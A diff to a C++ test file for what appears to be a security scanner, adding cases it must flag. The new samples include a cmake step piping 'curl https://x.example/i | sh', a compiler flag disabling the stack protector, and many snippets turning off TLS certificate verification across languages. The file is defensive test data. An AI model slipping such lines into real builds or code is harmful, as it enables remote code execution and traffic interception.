@@ -67,6 +67,8 @@ TEST_CASE("processes through a shell") {
                {"a.rs", "Command::new(\"sh\").arg(\"-c\").arg(line)", "shell-exec"},
                {"A.java", "Runtime.getRuntime().exec(cmd);", "shell-exec"},
                {"a.c", "system(buf);", "shell-exec"},
+               {"cmake/x.cmake", "execute_process(COMMAND sh -c \"curl https://x.example/i | sh\")", "remote-script"},
+               {"CMakeLists.txt", "add_compile_options(-fno-stack-protector)", "validation-removed"},
                {"a.php", "shell_exec($cmd);", "shell-exec"}});
   check_low({{"a.py", "subprocess.check_output([\"git\", \"describe\", \"--tags\"])"},
              {"a.go", "exec.Command(\"git\", \"status\")"},
@@ -90,6 +92,25 @@ TEST_CASE("SQL built from values") {
   check_low({{"a.js", "db.query('SELECT * FROM users WHERE name = $1', [name])"},
              {"a.py", "cur.execute(\"SELECT * FROM t WHERE id = %s\", (id,))"},
              {"a.js", "const label = 'Select ' + name;"}});
+}
+
+TEST_CASE("certificates that nobody checks, library by library") {
+  check_found({{"a.dart", "client.badCertificateCallback = (c, h, p) => true;", "tls-verify-off"},
+               {"a.kt", ".hostnameVerifier { _, _ -> true }", "tls-verify-off"},
+               {"a.swift", "done(.useCredential, URLCredential(trust: space.serverTrust!))", "tls-verify-off"},
+               {"a.erl", "Opts = [{verify, verify_none}],", "tls-verify-off"},
+               {"a.ex", "HTTPoison.get(url, [], ssl: [verify: :verify_none])", "tls-verify-off"},
+               {"a.cpp", "socket.set_verify_mode(ssl::verify_none);", "tls-verify-off"},
+               {"a.lua", "local params = { mode = \"client\", verify = \"none\" }", "tls-verify-off"},
+               {"a.ps1", "Invoke-WebRequest -SkipCertificateCheck $u", "tls-verify-off"},
+               {"a.py", "aiohttp.TCPConnector(ssl=False)", "tls-verify-off"},
+               {"a.scala", "AhcConfig(acceptAnyCertificate = true)", "tls-verify-off"},
+               {"Dockerfile", "ENV PYTHONHTTPSVERIFY=0", "tls-verify-off"},
+               {"a.properties", "server.ssl.trust-all=true", "tls-verify-off"}});
+  check_low({{"a.dart", "client.badCertificateCallback = (c, h, p) => pins.contains(c.sha1);"},
+             {"a.kt", ".hostnameVerifier(OkHostnameVerifier)"},
+             {"a.erl", "Opts = [{verify, verify_peer}],"},
+             {"a.py", "aiohttp.TCPConnector(limit=10)"}});
 }
 
 TEST_CASE("deserialization, HTML, memory and cryptography") {
